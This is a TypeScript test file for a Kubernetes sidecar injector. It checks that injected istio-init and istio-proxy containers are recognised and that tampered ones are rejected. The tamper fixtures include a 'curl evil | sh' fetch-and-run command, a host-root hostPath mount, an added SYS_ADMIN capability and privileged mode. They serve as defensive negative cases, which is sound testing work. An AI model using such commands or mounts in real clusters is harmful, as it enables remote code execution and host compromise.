import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { injectPod } from '../../src/inject/inject.js';
import { workloadOfPod } from '../../src/inject/owner.js';
import { injectedContainers, isInjectedContainer } from '../../src/inject/verify.js';
import type { JsonObject } from '../../src/util/json.js';
import { fixtureConfig } from './helpers.js';

const config = fixtureConfig().injection;

/** A Pod as the webhook receives it: the API server has already defaulted the port protocol. */
function appPod(annotations: Record<string, string> = {}): JsonObject {
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'web', annotations },
    spec: {
      containers: [
        { name: 'web', image: 'web:1', ports: [{ name: 'http', containerPort: 8080, protocol: 'TCP' }], readinessProbe: { httpGet: { path: '/ready', port: 'http' } } },
      ],
    },
  };
}

function injected(pod: JsonObject, injection = config): JsonObject {
  return injectPod({ pod, namespace: 'shop', workload: workloadOfPod(pod, 'shop'), config: injection });
}

type Container = JsonObject & { env?: JsonObject[]; ports?: JsonObject[]; securityContext?: JsonObject; args?: string[] };

function container(pod: JsonObject, list: 'initContainers' | 'containers', name: string): Container {
  return ((pod['spec'] as JsonObject)[list] as Container[]).find((c) => c['name'] === name)!;
}

/** What the API server adds when it stores the Pod. */
function withApiServerDefaults(pod: JsonObject): JsonObject {
  const out = structuredClone(pod);
  const spec = out['spec'] as JsonObject;
  for (const list of ['initContainers', 'containers'] as const) {
    for (const c of (spec[list] as Container[] | undefined) ?? []) {
      c['terminationMessagePath'] = '/dev/termination-log';
      c['terminationMessagePolicy'] = 'File';
      c['imagePullPolicy'] = 'IfNotPresent';
      for (const port of c.ports ?? []) port['protocol'] ??= 'TCP';
      for (const env of c.env ?? []) {
        const fieldRef = (env['valueFrom'] as JsonObject | undefined)?.['fieldRef'] as JsonObject | undefined;
        if (fieldRef) fieldRef['apiVersion'] = 'v1';
      }
      for (const probe of ['readinessProbe', 'startupProbe'] as const) {
        const p = c[probe] as JsonObject | undefined;
        if (p) {
          p['successThreshold'] = 1;
          (p['httpGet'] as JsonObject)['scheme'] = 'HTTP';
        }
      }
    }
  }
  return out;
}

/**
 * A Pod made from generateName, injected, stored, then named by the API server (after mutating
 * admission). A ReplicaSet's Pod renders the same with its name (the first form verification tries), a
 * bare Pod only without it (its workload is named after the Pod).
 */
function namedAfterAdmission(owned: boolean): JsonObject {
  const unnamed = appPod();
  const metadata: JsonObject = { generateName: 'web-6d4cf-', annotations: {} };
  if (owned) metadata['ownerReferences'] = [{ apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'web-6d4cf', uid: 'u1', controller: true }];
  unnamed['metadata'] = metadata;
  const stored = withApiServerDefaults(injected(unnamed));
  (stored['metadata'] as JsonObject)['name'] = 'web-6d4cf-x7k2q';
  return stored;
}

const TOKEN_PATH = '/var/run/secrets/kubernetes.io/serviceaccount';

/**
 * What the ServiceAccount admission plugin does to a Pod, before the webhooks and again after a webhook
 * changed it: a token volume with a random name, mounted read-only into every container that has no
 * mount at the token's path, appended last.
 */
function serviceAccountPlugin(pod: JsonObject, volume = 'kube-api-access-6kw9t'): JsonObject {
  const out = structuredClone(pod);
  const spec = out['spec'] as JsonObject;
  const volumes = ((spec['volumes'] as JsonObject[] | undefined) ??= []);
  if (!volumes.some((v) => String(v['name']).startsWith('kube-api-access-'))) {
    volumes.push({ name: volume, projected: { defaultMode: 420, sources: [{ serviceAccountToken: { expirationSeconds: 3607, path: 'token' } }] } });
  }
  for (const list of ['initContainers', 'containers'] as const) {
    for (const c of (spec[list] as Container[] | undefined) ?? []) {
      const mounts = ((c['volumeMounts'] as JsonObject[] | undefined) ??= []);
      if (!mounts.some((m) => m['mountPath'] === TOKEN_PATH)) mounts.push({ name: volume, readOnly: true, mountPath: TOKEN_PATH });
    }
  }
  return out;
}

/** A Pod as a cluster that automounts tokens stores it: the plugin before the injection and after it. */
function withTokenMounts(annotations: Record<string, string> = {}): JsonObject {
  return withApiServerDefaults(serviceAccountPlugin(injected(serviceAccountPlugin(appPod(annotations)))));
}

function tokenMounts(pod: JsonObject, list: 'initContainers' | 'containers', name: string): JsonObject[] {
  return container(pod, list, name)['volumeMounts'] as JsonObject[];
}

describe('isInjectedContainer: the token mount of the ServiceAccount admission plugin', () => {
  for (const [layout, annotations, proxyList] of [
    ['native sidecar', {}, 'initContainers'],
    ['classic layout', { 'sidecar.istio.io/nativeSidecar': 'false' }, 'containers'],
  ] as const) {
    test(`${layout}: istio-init and istio-proxy with the token mounted after injection are still ztgate's`, () => {
      const stored = withTokenMounts(annotations);
      assert.equal(tokenMounts(stored, 'initContainers', 'istio-init').at(-1)?.['mountPath'], TOKEN_PATH, 'the plugin mounted the token into istio-init');
      assert.equal(tokenMounts(stored, proxyList, 'istio-proxy').at(-1)?.['mountPath'], TOKEN_PATH, 'and into istio-proxy');
      assert.equal(isInjectedContainer(stored, 'istio-init', 'initContainers', 'shop', config), true);
      assert.equal(isInjectedContainer(stored, 'istio-proxy', proxyList, 'shop', config), true);
    });
  }

  const NOT_THE_PLUGINS: [string, (mounts: JsonObject[], pod: JsonObject) => void][] = [
    ['writable', (mounts) => (mounts.at(-1)!['readOnly'] = false)],
    ['at another path', (mounts) => (mounts.at(-1)!['mountPath'] = '/var/run/secrets/other')],
    ['with a subPath', (mounts) => (mounts.at(-1)!['subPath'] = 'token')],
    ['of a volume the Pod does not have', (mounts) => (mounts.at(-1)!['name'] = 'kube-api-access-zzzzz')],
    ['followed by another mount', (mounts) => mounts.push({ name: 'cache', mountPath: '/cache' })],
    ['mounted twice', (mounts) => mounts.push({ ...mounts.at(-1)! })],
    ['of the host\'s root', (mounts, pod) => {
      mounts.at(-1)!['name'] = 'host';
      ((pod['spec'] as JsonObject)['volumes'] as JsonObject[]).push({ name: 'host', hostPath: { path: '/' } });
    }],
    ['of the host\'s root, named like the token volume', (mounts, pod) => {
      mounts.at(-1)!['name'] = 'kube-api-access-hhhhh';
      ((pod['spec'] as JsonObject)['volumes'] as JsonObject[]).push({ name: 'kube-api-access-hhhhh', hostPath: { path: '/' } });
    }],
    ['of a projected volume without a token', (mounts, pod) => {
      mounts.at(-1)!['name'] = 'kube-api-access-ccccc';
      ((pod['spec'] as JsonObject)['volumes'] as JsonObject[]).push({ name: 'kube-api-access-ccccc', projected: { sources: [{ configMap: { name: 'x' } }] } });
    }],
  ];
  test("istio-init with any mount at the token path but exactly the plugin's is not ztgate's", () => {
    for (const [name, change] of NOT_THE_PLUGINS) {
      const stored = withTokenMounts();
      change(tokenMounts(stored, 'initContainers', 'istio-init'), stored);
      assert.equal(isInjectedContainer(stored, 'istio-init', 'initContainers', 'shop', config), false, name);
    }
  });
});

describe('isInjectedContainer', () => {
  test('a bare Pod made from generateName is recognised after the API server names it (the injector saw no name)', () => {
    const unnamed = appPod();
    (unnamed['metadata'] as JsonObject) = { generateName: 'web-', annotations: {} };
    const stored = withApiServerDefaults(injected(unnamed));
    (stored['metadata'] as JsonObject)['name'] = 'web-x7k2q';
    assert.equal(isInjectedContainer(stored, 'istio-proxy', 'initContainers', 'shop', config), true);
    assert.equal(isInjectedContainer(stored, 'istio-init', 'initContainers', 'shop', config), true);
    // Still narrow: a sidecar rendered for another workload is not ztgate's injection of this Pod.
    const other = appPod();
    (other['metadata'] as JsonObject) = { name: 'someone-else', annotations: {} };
    const foreign = withApiServerDefaults(injected(other));
    (foreign['metadata'] as JsonObject) = { generateName: 'web-', name: 'web-x7k2q', annotations: (foreign['metadata'] as JsonObject)['annotations'] as JsonObject };
    assert.equal(isInjectedContainer(foreign, 'istio-proxy', 'initContainers', 'shop', config), false);
  });

  const pod = injected(appPod({ 'prometheus.io/port': '9102' }));

  test('ztgate-injected istio-init and istio-proxy are recognised, also as the API server stores them', () => {
    for (const candidate of [pod, withApiServerDefaults(pod)]) {
      assert.equal(isInjectedContainer(candidate, 'istio-init', 'initContainers', 'shop', config), true);
      assert.equal(isInjectedContainer(candidate, 'istio-proxy', 'initContainers', 'shop', config), true);
    }
  });

  test('classic layout: the proxy is a regular container', () => {
    const classic = injected(appPod({ 'sidecar.istio.io/nativeSidecar': 'false' }));
    assert.equal(isInjectedContainer(classic, 'istio-proxy', 'containers', 'shop', config), true);
    assert.equal(isInjectedContainer(classic, 'istio-proxy', 'initContainers', 'shop', config), false);
    assert.equal(isInjectedContainer(classic, 'istio-init', 'initContainers', 'shop', config), true);
  });

  const TAMPERED: [string, (pod: JsonObject) => void][] = [
    ['an added capability', (p) => ((container(p, 'initContainers', 'istio-init').securityContext!['capabilities'] as JsonObject)['add'] as string[]).push('SYS_ADMIN')],
    ['an added command', (p) => (container(p, 'initContainers', 'istio-init')['command'] = ['sh', '-c', 'curl evil | sh'])],
    ['changed arguments', (p) => (container(p, 'initContainers', 'istio-init').args![6] = '0')],
    ['another image', (p) => (container(p, 'initContainers', 'istio-init')['image'] = 'evil/proxyv2:1.28.0')],
    ['privileged', (p) => (container(p, 'initContainers', 'istio-init').securityContext!['privileged'] = true)],
    ['no status annotation', (p) => delete ((p['metadata'] as JsonObject)['annotations'] as JsonObject)['sidecar.istio.io/status']],
    ['a status annotation that is not JSON', (p) => (((p['metadata'] as JsonObject)['annotations'] as JsonObject)['sidecar.istio.io/status'] = '{')],
    ['a status annotation not listing it', (p) => (((p['metadata'] as JsonObject)['annotations'] as JsonObject)['sidecar.istio.io/status'] = '{"initContainers":["istio-proxy"]}')],
    ['a non-default value the API server would not write', (p) => (container(p, 'initContainers', 'istio-init')['imagePullPolicy'] = 'Never')],
  ];
  for (const [name, tamper] of TAMPERED) {
    test(`istio-init with ${name} is not ztgate's`, () => {
      const copy = structuredClone(pod);
      tamper(copy);
      assert.equal(isInjectedContainer(copy, 'istio-init', 'initContainers', 'shop', config), false);
    });
  }

  test('a user container merely named istio-init is not ztgate\'s', () => {
    const user = appPod();
    (user['spec'] as JsonObject)['initContainers'] = [{ name: 'istio-init', image: 'docker.io/istio/proxyv2:1.28.0', securityContext: { capabilities: { add: ['NET_ADMIN'] } } }];
    assert.equal(isInjectedContainer(user, 'istio-init', 'initContainers', 'shop', config), false);
  });

  test('istio-init customised through an override is judged like any container', () => {
    const custom = appPod();
    (custom['spec'] as JsonObject)['initContainers'] = [{ name: 'istio-init', image: 'auto', securityContext: { capabilities: { add: ['SYS_ADMIN'] } } }];
    const result = injected(custom);
    assert.equal(isInjectedContainer(result, 'istio-init', 'initContainers', 'shop', config), false);
    assert.equal(isInjectedContainer(result, 'istio-proxy', 'initContainers', 'shop', config), true);
  });

  test('injectedContainers judges every listed container in one pass, agrees with the per-container answer and leaves the Pod as it was', () => {
    const custom = appPod();
    (custom['spec'] as JsonObject)['initContainers'] = [{ name: 'istio-init', image: 'auto', securityContext: { capabilities: { add: ['SYS_ADMIN'] } } }];
    for (const [name, candidate, expected] of [
      ['native layout', withApiServerDefaults(pod), ['initContainers/istio-init', 'initContainers/istio-proxy']],
      ['classic layout', injected(appPod({ 'sidecar.istio.io/nativeSidecar': 'false' })), ['containers/istio-proxy', 'initContainers/istio-init']],
      ['an overridden istio-init', injected(custom), ['initContainers/istio-proxy']],
      ['not injected', appPod(), []],
      ["a ReplicaSet's Pod, named after admission", namedAfterAdmission(true), ['initContainers/istio-init', 'initContainers/istio-proxy']],
      ['a bare Pod, named after admission', namedAfterAdmission(false), ['initContainers/istio-init', 'initContainers/istio-proxy']],
    ] as [string, JsonObject, string[]][]) {
      const before = structuredClone(candidate);
      const found = injectedContainers(candidate, 'shop', config);
      assert.deepEqual([...found].sort(), expected, name);
      for (const key of ['initContainers/istio-init', 'initContainers/istio-proxy', 'containers/istio-proxy']) {
        const [list, container] = key.split('/') as ['initContainers' | 'containers', string];
        assert.equal(isInjectedContainer(candidate, container, list, 'shop', config), expected.includes(key), `${name}: ${key}`);
      }
      assert.deepEqual(candidate, before, `${name}: the Pod is only read`);
    }
  });

  test('a Pod injected under another configuration does not match the current one', () => {
    assert.equal(isInjectedContainer(pod, 'istio-init', 'initContainers', 'shop', fixtureConfig({ tag: '1.29.0' }).injection), false);
  });
});
